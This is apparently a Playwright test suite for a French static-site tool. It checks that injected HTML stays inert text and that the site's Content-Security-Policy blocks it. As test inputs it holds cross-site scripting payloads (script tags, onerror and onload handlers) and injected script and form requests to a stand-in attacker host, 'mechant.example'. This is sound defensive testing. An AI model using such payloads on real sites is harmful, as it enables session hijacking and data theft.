"""In a real browser: what was written to act stays text, in every page and in what scripts show.

The site is visited as it is, and again without its policy, so that the policy hides no hole.
"""

from __future__ import annotations

import re
import shutil
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from benchmarks.serving import serving
from playwright.sync_api import Browser, BrowserContext, Page, Route, expect

from lisible.cli import main

from .payloads import OWN, PAYLOADS, TEXT, lay_hostile

WATCH = """
window.__csp = [];
addEventListener('securitypolicyviolation', e => {
  __csp.push(e.effectiveDirective + ' ' + e.blockedURI);
});
for (const name of ['alert', 'confirm', 'prompt', 'print', 'open']) {
  window[name] = () => { window.__owned = name; };
}
"""
LOOK = """() => {
  const faults = [];
  if (window.__owned) faults.push('ran: ' + window.__owned);
  for (const one of window.__csp) faults.push('policy: ' + one);
  const one = (what, number = 1) => {
    const count = document.querySelectorAll(what).length;
    if (count !== number) faults.push(what + ': ' + count);
  };
  one('main'); one('body > .md-container > main article'); one('h1'); one('header.md-header');
  one('body > .md-container > footer.md-footer');
  one('iframe, object, embed, base, video, audio, math, template', 0);
  one('article script, article style', 0);
  one('img:not(.lis-dessin img)', 0);
  one('meta[http-equiv]:not([http-equiv=Content-Security-Policy])', 0);
  const tops = [...document.body.children].map(e => e.tagName).join(' ');
  const wanted = /^INPUT INPUT LABEL DIV DIV HEADER DIV DIV (SCRIPT ?)+$/;
  if (!wanted.test(tops)) faults.push('body: ' + tops);
  const footer = document.querySelector('footer').getBoundingClientRect();
  if (footer.height < 20) faults.push('footer hidden');
  for (const element of document.querySelectorAll('*')) {
    for (const {name, value} of element.attributes) {
      if (/^on/.test(name)) faults.push(element.tagName + ' ' + name);
      if (/^(href|src|action|srcset|formaction|data|xlink:href)$/.test(name)) {
        const link = /^\\s*([a-z][a-z0-9+.-]*):/i.exec(value);
        if (link && !/^(https?|mailto|tel|file)$/.test(link[1])) faults.push(name + '=' + value);
        if (URL.parse(value, location)?.host.includes('mechant')) faults.push(name + '=' + value);
      }
      if (name === 'style' && element.closest('article')) faults.push('style=' + value);
    }
  }
  return faults;
}"""
SAID = "() => document.querySelector('article').textContent"


@pytest.fixture(scope="session")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Two sites, « site » and « nu » (its pages without their policy), of one hostile project that
    published twice."""
    folder = tmp_path_factory.mktemp("hostile")
    project = folder / "projet"
    lay_hostile(project)
    text = project / TEXT
    for reason in (f"<script>{OWN}</script>", f'"><img src=x onerror="{OWN}">'):
        words = ["--raison", reason, "--par", f"<svg onload={OWN}>", "--le", "2026-11-22"]
        assert main(["publish", "--projet", str(project), *words]) == 0
        with text.open("a", encoding="utf-8") as file:
            file.write("\nUne ligne de plus, écrite <b après.\n")
    assert main(["build", "--projet", str(project), "--site-dir", str(folder / "site")]) == 0
    shutil.copytree(folder / "site", folder / "nu")
    for page in (folder / "nu").rglob("*.html"):
        html, count = re.subn(
            r'<meta http-equiv="Content-Security-Policy"[^>]*>', "", page.read_text("utf-8")
        )
        assert count == 1, page
        page.write_text(html, encoding="utf-8")
    return folder


@pytest.fixture(params=["http", "http, no policy", "file"])
def home(request: pytest.FixtureRequest, hostile: Path) -> Iterator[str]:
    """The address of the home page's folder."""
    if request.param == "file":
        yield f"{(hostile / 'site').as_uri()}/"
        return
    with serving(hostile / ("nu" if "no" in request.param else "site")) as address:
        yield address


@pytest.fixture
def watched(context: BrowserContext) -> Iterator[Page]:
    context.add_init_script(WATCH)
    page = context.new_page()
    page.set_default_timeout(15_000)
    errors: list[str] = []
    page.on("pageerror", lambda error: errors.append(str(error)))
    yield page
    assert errors == []


@pytest.mark.parametrize("home", ["http, no policy"], indirect=True)
def test_without_it_such_an_element_would_act(watched: Page, home: str) -> None:
    """So the tests above see what runs."""
    watched.goto(f"{home}index.html")
    watched.evaluate(
        "own => document.body.insertAdjacentHTML('beforeend', `<img src=x onerror=${own}>`)", OWN
    )
    watched.wait_for_function("window.__owned")
    assert "ran: 1" in faults(watched)


def places(hostile: Path) -> list[str]:
    site = hostile / "site"
    found = sorted(path.relative_to(site).as_posix() for path in site.rglob("*.html"))
    return [place for place in found if place != "404.html"]


def faults(page: Page) -> list[Any]:
    found: list[Any] = page.evaluate(LOOK)
    return found


def test_there_is_something_to_fear(hostile: Path) -> None:
    assert len(PAYLOADS) >= 60
    assert len(places(hostile)) > 35


def test_every_page_only_says_it(watched: Page, home: str, hostile: Path) -> None:
    said = ""
    wrong: dict[str, list[Any]] = {}
    for place in places(hostile):
        watched.goto(home + place)
        if found := faults(watched):
            wrong[place] = found
        said += watched.evaluate(SAID)
    assert wrong == {}
    bare = re.sub(r"\s|[«»“”’'\"]", "", said)
    for payload in PAYLOADS:
        wanted = re.sub(r"\s|[«»“”’'\"]", "", payload)
        assert wanted in bare, f"never shown: {payload}"


@pytest.mark.parametrize("typed", ["onerror", "__proto__ script", "iframe svg"])
def test_the_search_only_says_it(watched: Page, home: str, typed: str) -> None:
    watched.goto(f"{home}index.html")
    watched.locator("[data-lisible-recherche] input").fill(typed)
    expect(watched.locator("#lis-trouves")).to_have_text(re.compile("réponse"))
    results = watched.locator(".md-search-result__list")
    assert results.locator("img, script, svg, iframe, style, form, input").count() == 0
    assert faults(watched) == []
    first = results.locator("a").first
    if first.count():
        first.click()
        watched.wait_for_load_state()
        expect(watched.locator("h1")).to_be_visible()
        assert faults(watched) == []


def test_words_marked_from_the_address(watched: Page, home: str) -> None:
    watched.goto(f"{home}attaque/index.html?h=<img src=x onerror={OWN}> script")
    expect(watched.locator("mark").first).to_be_attached()
    assert faults(watched) == []
    watched.goto(f"{home}structures/index.html?q=<svg onload={OWN}>&type=%22><img src=x>#<script>")
    assert faults(watched) == []


def test_the_finder_only_says_it(watched: Page, home: str) -> None:
    watched.goto(f"{home}index.html")
    for typed in (f"<img src=x onerror={OWN}>", "Rambouillet"):
        watched.fill("#lis-lieu", typed)
        watched.locator(".lis-trouver button").first.click()
        watched.wait_for_timeout(300)
        assert faults(watched) == []
    expect(watched.locator(".lis-equipe-trouvee").first).to_contain_text("window.__owned")
    assert faults(watched) == []


def test_the_answer_to_a_code_only_says_it(watched: Page, home: str, hostile: Path) -> None:
    (register,) = (hostile / "projet" / "content" / "registre").glob("*.jsonl")
    codes = re.findall(r'"code":"([^"]+)"', register.read_text(encoding="utf-8"))
    assert len(codes) == 2
    for code in codes:
        watched.goto(f"{home}v/index.html")
        watched.get_by_label("Le code de votre papier").fill(code)
        watched.keyboard.press("Enter")
        expect(watched.locator("#lis-reponse")).to_contain_text("Attaque")
        assert faults(watched) == []
        watched.locator("#lis-reponse a").click()
        watched.wait_for_load_state()
        assert faults(watched) == []


@pytest.mark.parametrize("home", ["http", "file"], indirect=True)
def test_the_policy_stops_what_would_get_through(browser: Browser, home: str) -> None:
    """The belt, without the braces: an element that a hole would have let in does nothing."""
    context = browser.new_context()
    context.add_init_script(WATCH)
    reached: list[str] = []

    def answer(route: Route) -> None:
        reached.append(route.request.url)
        route.fulfill(body=OWN, content_type="text/javascript")

    context.route("https://mechant.example/**", answer)
    page = context.new_page()
    page.goto(f"{home}index.html")
    page.evaluate(
        """own => {
          const box = document.createElement('div');
          box.innerHTML = `<img src=x onerror="${own}"><img src=https://mechant.example/p.png>
            <iframe srcdoc="<script>parent.${own}</scr` + `ipt>"></iframe>
            <form action=https://mechant.example/><button id=envoi></button></form>
            <p style="position:fixed">x</p><style>p{color:red}</style>`;
          document.body.append(box);
          const script = document.createElement('script');
          script.textContent = own;
          document.body.append(script);
          const far = document.createElement('script');
          far.src = 'https://mechant.example/a.js';
          document.body.append(far);
          document.getElementById('envoi').click();
        }""",
        OWN,
    )
    page.wait_for_function("window.__csp.length >= 6")
    page.wait_for_timeout(300)
    assert page.evaluate("window.__owned") is None
    assert reached == []
    assert page.url.startswith(home)
    context.close()
